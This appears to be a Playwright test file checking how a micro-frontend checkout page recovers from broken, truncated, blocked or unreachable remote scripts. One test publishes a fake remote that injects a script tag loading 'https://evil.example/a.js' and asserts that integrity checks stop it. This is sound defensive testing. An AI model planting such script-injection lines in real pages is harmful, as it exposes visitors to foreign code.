import type { Page } from '@playwright/test';
import { cut, flipped, startFaultyHost, type Fault } from '../site/faulty-host.ts';
import { startShell } from '../site/start-shell.ts';
import { expect, test } from '../visitor/watched-test.ts';

const siteUrl = process.env['SITE_URL'] ?? 'http://localhost:3000';
const order = '/order/aarav-suryan';
const entry = /mfe-checkout\/[^/]+\/entry\.js/;
const files = {
  entry,
  chunk: /mfe-checkout\/[^/]+\/order\.\w+\.js/,
  core: /\/assets\/runtime\/core\.\w+\.js/,
  runtime: /\/assets\/runtime\/runtime\.\w+\.js/,
  boot: /\/assets\/boot\/boot\.\w+\.js/,
};

type Host = Awaited<ReturnType<typeof startFaultyHost>>;
let host: Host;
test.beforeEach(async () => {
  host = await startFaultyHost(siteUrl);
});
test.afterEach(async () => {
  await host.stop();
});

const slot = (page: Page) => page.locator('[data-slot="page"]');

async function isLive(page: Page, timeout = 15_000) {
  await expect(slot(page)).toHaveAttribute('data-state', 'hydrated', { timeout });
}

/** The causes under which the page has reported the failures of a remote or the shell. */
function watchCauses(page: Page, remote: string): string[] {
  const causes: string[] = [];
  page.on('request', (request) => {
    if (!request.url().endsWith('/__marquee/telemetry')) return;
    const beacons = JSON.parse(request.postData() ?? '[]') as {
      kind: string;
      remote: string;
      cause: string;
    }[];
    for (const beacon of beacons)
      if (beacon.kind === 'error' && beacon.remote === remote) causes.push(beacon.cause);
  });
  return causes;
}

for (const [name, file] of Object.entries(files)) {
  test(
    `feature 16: one flipped bit in the ${name}, kept by the browser's cache: the page is live in 15 s, and after a reload no request is made for it`,
    { tag: '@all' },
    async ({ page }) => {
      host.break(file, flipped, { times: 1 });
      await page.goto(host.url + order);
      await isLive(page);
      // The bad copy, the retry, and the request that repairs the cache.
      await expect.poll(() => host.hits().length).toBe(3);

      await page.reload();
      await isLive(page);
      expect(host.hits()).toHaveLength(3);
    },
  );
}

for (const name of ['entry', 'core', 'boot'] as const) {
  test(
    `feature 16: a ${name} that is cut in every answer: the page is readable, and after the fault a plain reload makes it live`,
    { tag: '@all' },
    async ({ page }) => {
      const causes = watchCauses(page, name === 'entry' ? 'mfe-checkout' : 'shell');
      host.break(files[name], cut);
      await page.goto(host.url + order);
      await expect(page.locator('main h1')).toBeVisible();
      await expect.poll(() => causes[0]).toBe(name === 'entry' ? 'REMOTE_TRUNCATED' : 'REMOTE_DID_NOT_LOAD');
      const notice = page.getByRole('alert').filter({ hasText: 'Parts of this page did not load' });
      if (name === 'boot') await expect(notice).toBeVisible();

      host.mend();
      if (name === 'boot') await notice.getByRole('link', { name: 'Try again' }).click();
      else await page.reload();
      await isLive(page);
      await expect(notice).toBeHidden();
    },
  );
}

const causes: [cause: string, what: string, Fault][] = [
  ['REMOTE_HTTP_STATUS', 'an HTTP error', { status: 500 }],
  ['REMOTE_NOT_CODE', 'HTML with status 200', { html: true }],
  ['REMOTE_TRUNCATED', 'half of the file', cut],
  ['INTEGRITY', 'one flipped bit', flipped],
  ['REMOTE_UNREACHABLE', 'a connection that is reset', 'reset'],
  ['REMOTE_SYNTAX', 'a syntax error', { published: 'var mfe_quiz = {;' }],
  ['REMOTE_THREW', 'an error at evaluation', { published: 'throw new Error("broken on purpose")' }],
  ['REMOTE_WRONG_CONTAINER', 'another container', { published: 'var other = 1' }],
  ['REMOTE_TOO_LATE', 'no answer in 10 s', 'hang'],
];
for (const [cause, what, fault] of causes) {
  test(
    `feature 17: of ten causes, ${what} in a remote's entry is ${cause}`,
    { tag: '@all' },
    async ({ page }) => {
      const seen = watchCauses(page, 'mfe-checkout');
      host.break(fault instanceof Object && 'published' in fault ? /entry\.js/ : entry, fault);
      // A script that hangs from before the page's load event on delays that event.
      await page.goto(host.url + order, { waitUntil: 'commit' });
      await expect.poll(() => seen[0]).toBe(cause);
    },
  );
}

test.describe('a policy that allows no remote', () => {
  test.use({ violations: [/script-src-elem .*\/remotes\//] });

  test(
    'feature 17: of ten causes, an entry that the content security policy blocks is REMOTE_BLOCKED',
    { tag: '@all' },
    async ({ page }) => {
      const seen = watchCauses(page, 'mfe-checkout');
      host.addPolicy(`script-src-elem ${host.url}/assets/ 'unsafe-inline'`);
      await page.goto(host.url + order);
      await expect.poll(() => seen[0]).toBe('REMOTE_BLOCKED');
    },
  );
});

test('feature 36: script tags that a remote adds by itself run neither a foreign file nor a changed one of its own', async ({
  page,
}) => {
  const seen = watchCauses(page, 'mfe-checkout');
  const requested: string[] = [];
  page.on('request', (request) => requested.push(request.url()));
  host.break(/entry\.js/, {
    published: `const { src } = document.currentScript;
      const add = (src) => document.head.append(Object.assign(document.createElement('script'), { src }));
      add(src + '?own');
      add('https://evil.example/a.js');`,
  });
  await page.route(/entry\.js\?own$/, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: 'window.ranOwn = true',
    }),
  );
  await page.goto(host.url + order);
  await expect.poll(() => seen.filter((cause) => cause === 'INTEGRITY').length).toBe(2);
  expect(await page.evaluate(() => 'ranOwn' in window)).toBe(false);
  expect(requested.join()).not.toContain('evil.example');
});

test.describe('with a second asset host', () => {
  let shell: Awaited<ReturnType<typeof startShell>>;
  let first: Host;
  let second: Host;
  test.beforeAll(async () => {
    second = await startFaultyHost(siteUrl);
    shell = await startShell({ ASSET_HOSTS: second.url });
    first = await startFaultyHost(shell.url);
  });
  test.afterAll(async () => {
    await Promise.all([first.stop(), second.stop(), shell.stop()]);
  });

  for (const [how, what, files, fault] of [
    ['answers 500', 'remotes and the shell', /^\/(remotes|assets)\/.*\.js/, { status: 500 }, '@all'],
    ['hangs', 'remotes', /^\/remotes\/.*\.js/, 'hang'],
  ] as const) {
    test(
      `feature 16: the first host ${how} for every script of ${what}; the page is live by the second`,
      { tag: '@all' },
      async ({ page }) => {
        first.break(files, fault);
        second.break(files, { bytes: (original) => original });
        // A request that hangs delays the page's load event.
        await page.goto(first.url + order, { waitUntil: 'commit' });
        await isLive(page, 40_000);
        expect(second.hits().length).toBeGreaterThan(4);
        // The area at the bottom is rendered once its stylesheet has loaded.
        await expect(page.locator('.shell-bottom')).toHaveCount(1);
      },
    );
  }
});
